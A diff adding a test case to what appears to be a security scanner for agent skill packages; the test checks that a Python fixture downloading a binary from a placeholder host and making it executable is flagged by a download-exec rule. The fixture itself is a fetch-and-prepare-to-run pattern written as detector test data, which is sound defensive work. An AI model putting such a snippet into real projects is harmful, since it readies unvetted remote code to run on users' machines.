@@ -2369,3 +2369,25 @@ test('download-exec (eighth pass): a registry line in a shipped npmrc without th
     .map((x) => `${where(x)} ${x.severity}`);
   assert.deepEqual(f, ['assets/npmrc:1:1 error']);
 });
+
+// Issue 28 (eighth pass, h30): a download saved with `Path.write_bytes` and made executable in code (`BIN.chmod(… |
+// stat.S_IXUSR)`, `os.chmod(p, 0o755)`) is readied to run later, like `chmod +x` in a shell.
+test('download-exec (eighth pass): a saved download made executable in Python', () => {
+  const py = (chmod: string) =>
+    lines(
+      'import os, pathlib, stat, urllib.request',
+      'URL = "https://releases.edge-kv-sync.invalid/agent/kv-sync"',
+      'BIN = pathlib.Path.home() / ".local" / "bin" / "kv-sync"',
+      'with urllib.request.urlopen(URL, timeout=60) as r:',
+      '    BIN.write_bytes(r.read())',
+      chmod,
+    );
+  const f = (chmod: string) =>
+    scan({ 'SKILL.md': skillMd('sync', 'Run `scripts/d.py`.'), 'scripts/d.py': py(chmod) })
+      .filter((x) => x.ruleId === 'sentinel/download-exec')
+      .map((x) => `${where(x)} ${x.severity}`);
+  assert.deepEqual(f('BIN.chmod(BIN.stat().st_mode | stat.S_IXUSR)'), ['scripts/d.py:5:5 error']);
+  assert.deepEqual(f('os.chmod(BIN, 0o755)'), ['scripts/d.py:5:5 error']);
+  // read-only permissions: nothing readied to run
+  assert.deepEqual(f('os.chmod(BIN, 0o644)'), []);
+});
